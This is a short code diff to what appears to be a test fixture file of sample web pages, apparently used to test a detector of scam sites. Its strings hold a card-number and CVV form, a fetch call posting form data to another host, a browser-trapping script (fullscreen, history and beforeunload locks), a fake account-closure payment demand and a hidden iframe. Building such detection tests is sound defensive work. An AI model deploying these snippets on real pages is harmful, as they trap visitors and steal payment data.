@@ -11,7 +11,7 @@ const script = (code: string) => `<script>${code}</script>`
 const card = `<input name="cardnumber"><input name="cvv">`
 const sends = `fetch("${elsewhere}",{method:"POST",body:new FormData(f)})`
 const holds = script(
-  `onclick=()=>document.body.requestFullscreen();history.pushState(0,"");onpopstate=()=>history.pushState(0,"")`,
+  `onclick=()=>document.body.requestFullscreen();addEventListener("beforeunload",stay);history.pushState(0,"");onpopstate=()=>history.pushState(0,"")`,
 )
 const iban = "DE02 1203 0000 0000 2020 51"
 const late = `<p>Your account will be closed today. Pay to ${iban}</p>`
@@ -134,7 +134,7 @@ export const takingCases: ReadonlyArray<readonly [rule: string, draft: GivenDraf
     site(
       "a small sum and a frame",
       "Ferry",
-      `<h1>Pay 1.99 €</h1>${form(card, "/pay")}<iframe hidden src="a.html"></iframe>`,
+      `<h1>Pay 1.99 €</h1>${form(card, "/a.php")}<iframe hidden src="a.html"></iframe>`,
     ),
   ],
   [
